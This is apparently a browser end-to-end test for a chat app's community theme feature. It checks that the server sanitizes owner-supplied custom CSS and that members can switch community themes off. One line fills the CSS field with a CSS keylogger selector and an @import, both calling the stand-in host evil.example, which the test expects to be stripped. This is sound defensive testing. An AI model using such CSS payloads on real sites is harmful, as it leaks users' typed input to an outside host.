/**
 * Issue #16 item 8 in the browser: Alice, the community's owner, writes custom CSS in the
 * community's Appearance dialog, including a keylogger and a beacon; the server says what it
 * removed. Bob, a member, sees the theme inside the community's message area (and the removed
 * parts nowhere), then turns community themes off in Settings → Appearance and sees his own
 * appearance again. The sanitizer's payload corpus is in tests/moderation/cssSanitizer.test.ts.
 */
import { describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { browserSuite, communityOfTwo, seriousViolations } from './helpers';

const suite = browserSuite();

const outline = (page: Page) => page.locator('main.main').evaluate((el) => getComputedStyle(el).outlineColor);
/** The theme the page applied (a constructed style sheet: the CSP refuses inline <style>). */
const applied = (page: Page) => page.evaluate(() => document.adoptedStyleSheets.flatMap((s) => [...s.cssRules].map((r) => r.cssText)).join('\n'));

describe('community themes in the browser', () => {
  it('16.8: apply a community theme (sanitized) and switch it off', async () => {
    const alice = await suite.pages.newPage();
    const bob = await suite.pages.newPage();
    const { channelUrl } = await communityOfTwo(suite, alice, bob, 'Themed', ['alice', 'bob']);
    await alice.getByText('Community menu').click();
    await alice.getByRole('button', { name: 'Appearance', exact: true }).click();
    const dialog = alice.getByRole('dialog');
    await dialog.getByLabel('Custom CSS').fill(':root { outline: 3px solid rgb(1, 2, 3) }\ninput[value^="a"] { background: url(https://evil.example/a) }\n@import url(https://evil.example/x.css);');
    await dialog.getByRole('button', { name: 'Save theme' }).click();
    await expect.poll(() => dialog.getByTestId('theme-saved').textContent(), { timeout: 20_000 }).toContain('The server removed');
    expect(await seriousViolations(alice)).toEqual([]);
    await dialog.getByRole('button', { name: 'Close', exact: true }).click();
    await expect.poll(() => outline(alice), { timeout: 20_000 }).toBe('rgb(1, 2, 3)');

    await bob.goto(channelUrl);
    await bob.reload();
    await expect.poll(() => outline(bob), { timeout: 30_000 }).toBe('rgb(1, 2, 3)');
    const css = await applied(bob);
    expect(css).toContain('outline');
    for (const gone of ['evil.example', '@import', 'value^=']) expect(css).not.toContain(gone);
    expect(await bob.locator('main.main').getAttribute('data-community-theme')).toMatch(/^[A-Za-z0-9_-]+$/);

    // Bob prefers his own appearance.
    await bob.goto(`${suite.server.url}/#/settings/appearance`);
    await bob.getByRole('radio', { name: 'Always use my own appearance' }).check();
    await bob.goto(channelUrl);
    await expect.poll(() => bob.getByRole('heading', { name: '#general' }).count(), { timeout: 20_000 }).toBe(1);
    expect(await applied(bob)).toBe('');
    expect(await outline(bob)).not.toBe('rgb(1, 2, 3)');
  }, 180_000);
});
